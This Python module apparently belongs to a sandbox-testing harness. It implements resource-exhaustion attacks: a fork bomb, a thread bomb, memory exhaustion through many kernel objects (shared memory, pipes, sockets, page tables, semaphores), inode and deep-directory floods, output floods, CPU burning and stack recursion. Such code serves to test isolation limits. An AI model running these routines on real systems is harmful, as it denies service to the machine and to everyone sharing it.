"""Attacks by using things up: processes, memory in every form the kernel has, disk, inodes, output, time."""

import ctypes
import errno
import mmap
import os
import resource
import socket
import sys
import threading
import time

import raw

MIB = 1 << 20


def fork_bomb():
    while True:
        try:
            os.fork()
        except OSError as error:
            raw.say(errno.errorcode[error.errno])
            time.sleep(0.05)


def thread_bomb():
    threads = []
    while True:
        try:
            thread = threading.Thread(target=time.sleep, args=(60,), daemon=True)
            thread.start()
            threads.append(thread)
        except RuntimeError:
            raw.say("EAGAIN")
            time.sleep(0.05)


def memory_of_many(children, each_mib):
    """So many processes that each take a part."""
    for _ in range(children):
        if os.fork() == 0:
            kept = bytearray(each_mib * MIB)
            time.sleep(60)
            os._exit(len(kept) & 1)
    time.sleep(60)


def memory_by(way, mib):
    """So much memory, not as a process's own but by another way; how far it came, in MiB."""
    started = _WAYS[way]
    kept = []
    taken = 0.0
    try:
        while taken < mib:
            taken += started(kept)
    except OSError as error:
        return {"mib": taken, "error": errno.errorcode.get(error.errno, str(error))}
    return {"mib": taken, "error": ""}


def _tmpfs(folder):
    def take(kept):
        with open(f"{folder}/{len(kept)}", "wb") as file:
            file.write(bytes(MIB))
        kept.append(0)
        return 1

    return take


def _memfd(kept):
    kept.append(os.memfd_create("x", 0))
    os.write(kept[-1], bytes(8 * MIB))
    return 8


def _shared_segment(kept):
    kept.append(_checked(raw.syscall("shmget", 0, 8 * MIB, 0o1600)))
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(kept[-1], None, 0)
    ctypes.memset(address, 1, 8 * MIB)
    libc.shmdt(ctypes.c_void_p(address))  # it stays, although nobody has it any more
    return 8


def _checked(result):
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return result


def _semaphores(kept):
    kept.append(_checked(raw.syscall("semget", 0, 32000, 0o600)))
    return 32000 * 64 / MIB


def _messages(kept):
    queue = _checked(raw.syscall("msgget", 0, 0o600))
    kept.append(queue)
    message = ctypes.create_string_buffer(b"\1" + bytes(8191))
    for _ in range(2):
        _checked(raw.syscall("msgsnd", queue, message, 8184, 0x800))
    return 16 / 1024


def _pipes(kept):
    reader, writer = os.pipe()
    kept += [reader, writer]
    os.set_blocking(writer, False)
    size = 0
    try:
        import fcntl

        fcntl.fcntl(writer, 1031, MIB)
    except OSError:
        pass  # the user's share of large pipes is used up
    try:
        while True:
            size += os.write(writer, bytes(65536))
    except BlockingIOError:
        return size / MIB


def _sockets(kept):
    ends = socket.socketpair()
    kept.append(ends)
    size = 0
    for end in ends:
        end.setblocking(False)
        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        try:
            while True:
                size += end.send(bytes(32768))
        except BlockingIOError:
            pass
    return size / MIB


def _page_tables(kept):
    """One byte of every second mebibyte: almost no memory, but a table for each."""
    view = mmap.mmap(-1, 1 << 40, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000)  # MAP_NORESERVE
    view.madvise(15)  # MADV_NOHUGEPAGE
    kept.append(view)
    for place in range(0, 1 << 38, 2 * MIB):
        view[place : place + 1]
    return 512


def _mappings(kept):
    """As many areas as there can be: each neighbour differs."""
    for _ in range(4000):
        kept.append(mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | (len(kept) % 2 and 2)))
    return 1


def _names(kept):
    """Names that are not there are remembered by the kernel too."""
    for _ in range(20_000):
        kept[:] = [kept[0] + 1 if kept else 0]
        os.path.exists(f"/usr/lib/{'x' * 150}{kept[0]}")
    return 4


def record_locks(files, each):
    """Locks of single bytes, on so many files that no file's list is long."""
    import struct

    taken = 0
    for number in range(files):
        try:
            file = os.open(f"/tmp/locked{number}", os.O_RDWR | os.O_CREAT)
        except OSError as error:
            return {"taken": taken, "error": errno.errorcode[error.errno]}
        for place in range(each):
            result = raw.syscall("fcntl", file, 6, struct.pack("hhqqi4x", 1, 0, 2 * place, 1, 0))
            if result < 0:
                return {"taken": taken, "error": raw.answer(result)}
            taken += 1
    raw.say(f"taken {taken}")
    time.sleep(0.5)
    return {"taken": taken, "error": ""}


def _timers(kept):
    for _ in range(1000):
        kept.append(_checked(raw.syscall("timer_create", 1, 0, ctypes.create_string_buffer(8))))
    return 0.2


_WAYS = {
    "tmpfs": _tmpfs("/tmp"),
    "shared memory files": _tmpfs("/dev/shm"),
    "memfd": _memfd,
    "shared segments": _shared_segment,
    "semaphores": _semaphores,
    "message queues": _messages,
    "pipes": _pipes,
    "sockets": _sockets,
    "page tables": _page_tables,
    "mappings": _mappings,
    "names": _names,
    "timers": _timers,
}


def swap(mib):
    """Take memory, let it go cold, ask for it to be paged out; what of it is in swap."""
    view = mmap.mmap(-1, mib * MIB, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    for place in range(0, len(view), 4096):
        view[place] = 1
    view.madvise(21)  # MADV_PAGEOUT
    status = dict(line.split(":") for line in open("/proc/self/status"))
    time.sleep(0.3)
    return int(status["VmSwap"].split()[0])


def inodes():
    """Empty files, folders and links until there are no more."""
    made = {"files": 0, "folders": 0, "links": 0}
    answers = {}
    for kind, make in (
        ("files", lambda name: open(name, "w").close()),
        ("folders", os.mkdir),
        ("links", lambda name: os.symlink("x" * 4000, name)),
    ):
        for folder in ("/tmp", "/dev/shm"):
            try:
                for number in range(10**6):
                    make(f"{folder}/{kind}{number}")
                    made[kind] += 1
            except OSError as error:
                answers[f"{kind} {folder}"] = errno.errorcode[error.errno]
    return {"made": made, "answers": answers}


def deep_tree():
    """Folder in folder as deep as it goes, or 3,000 times; what stopped it."""
    depth = 0
    try:
        while depth < 3000:
            os.mkdir("d")
            os.chdir("d")
            depth += 1
    except OSError as error:
        return {"depth": depth, "error": errno.errorcode[error.errno]}
    return {"depth": depth, "error": ""}


def sparse_files():
    """Files that are larger than the disk, and a hole of the same size written at its end."""
    answers = {}
    for size in (1 << 33, 1 << 40, 1 << 62):
        with open("/tmp/sparse", "wb") as file:
            answers[f"truncate {size}"] = raw.caught(file.truncate, size)
            answers[f"allocate {size}"] = raw.caught(os.posix_fallocate, file.fileno(), 0, size)
            answers[f"write at {size}"] = raw.caught(os.pwrite, file.fileno(), b"x", size - 1)
    answers["size"] = os.stat("/tmp/sparse").st_size
    return answers


def flood_output(descriptor, mib, line=0):
    """So much to a pipe of its own; in lines, or as one."""
    block = (b"x" * line + b"\n") * max(1, 65536 // (line + 1)) if line else b"x" * 65536
    for _ in range(mib * MIB // len(block)):
        view = memoryview(block)
        while view:
            view = view[os.write(descriptor, view) :]
    return "written"


def burn(processes, threads=0, seconds=60):
    """All processors at once."""
    for _ in range(processes - 1):
        if os.fork() == 0:
            break
    for _ in range(threads):
        threading.Thread(target=_spin, daemon=True).start()
    resource.getrusage(0)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        pass
    os._exit(0)


def _spin():
    while True:
        pass


def burn_briefly(seconds):
    """Children that end before anybody looks at them: their time counts as well."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if os.fork() == 0:
            until = time.process_time() + 0.005
            while time.process_time() < until:
                pass
            os._exit(0)
        os.wait()
    return "done"


def recurse():
    """The stack to its end, with the limit of the interpreter taken away."""
    sys.setrecursionlimit(10**9)
    threading.stack_size(512 * MIB)

    def deeper(level):
        return deeper(level + 1) + 1

    thread = threading.Thread(target=deeper, args=(0,))
    thread.start()
    thread.join()
    return "done"
